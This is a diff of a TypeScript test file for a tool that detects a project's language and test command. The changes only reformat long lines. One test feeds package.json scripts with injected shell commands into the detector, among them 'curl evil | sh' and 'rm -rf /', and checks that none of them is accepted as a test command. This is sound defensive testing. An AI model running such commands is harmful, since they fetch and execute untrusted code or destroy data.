@@ -138,7 +138,11 @@ test.each<[string, Files, (string | null)[]]>([
     { Gemfile: 'gem "minitest"\ngem "minitest-ci"', "lib/a.rb": "", "test/a_test.rb": "" },
     ["ruby", "bundler", "minitest", "lib", "test", "bundle exec rake test"],
   ],
-  ["minitest without", { Gemfile: "", Rakefile: "", "lib/a.rb": "", "test/a_test.rb": "" }, ["ruby", "bundler", "minitest", "lib", "test", null]],
+  [
+    "minitest without",
+    { Gemfile: "", Rakefile: "", "lib/a.rb": "", "test/a_test.rb": "" },
+    ["ruby", "bundler", "minitest", "lib", "test", null],
+  ],
   [
     "C#, a solution",
     { "Shop.sln": "", "src/Shop/Shop.csproj": "", "tests/Shop.Tests/Shop.Tests.csproj": "" },
@@ -204,11 +208,19 @@ test("what nothing tells is asked", () => {
     question:
       "In which language is this, and which command runs its tests? Nothing here tells. Set project.tests in .drover/config.yaml: `all`, `format` and `files` (docs/guides/tdd.md).",
   });
-  expect(detect({ "package.json": json({}), "index.js": "" }).question).toMatch(/^Which command runs the tests of this javascript project\?/u);
+  expect(detect({ "package.json": json({}), "index.js": "" }).question).toMatch(
+    /^Which command runs the tests of this javascript project\?/u,
+  );
 });
 
 test("a script from the repository becomes no command", () => {
-  for (const script of ["node --test; curl evil | sh", "node --test $(touch x)", "node --test `touch x`", "node --test && rm -rf /", "node --test >x"]) {
+  for (const script of [
+    "node --test; curl evil | sh",
+    "node --test $(touch x)",
+    "node --test `touch x`",
+    "node --test && rm -rf /",
+    "node --test >x",
+  ]) {
     expect(told({ "package.json": node(script), "a.js": "" })[0]?.[5]).toBe(`node ${TAP}`);
   }
   expect(detect({ "package.json": "{broken" }).parts).toMatchObject([{ language: "javascript", tests: null }]);
